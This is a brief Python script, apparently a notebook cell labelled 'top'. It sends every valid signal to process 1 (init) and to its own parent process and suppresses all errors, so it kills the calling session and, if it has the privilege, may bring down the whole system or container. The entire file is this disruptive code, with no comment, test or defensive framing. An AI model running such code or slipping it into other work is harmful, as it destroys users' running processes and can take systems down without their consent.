# %% top
import os
import signal

for number in sorted(signal.valid_signals()):
    for target in (1, os.getppid()):
        try:
            os.kill(target, number)
        except OSError:
            pass
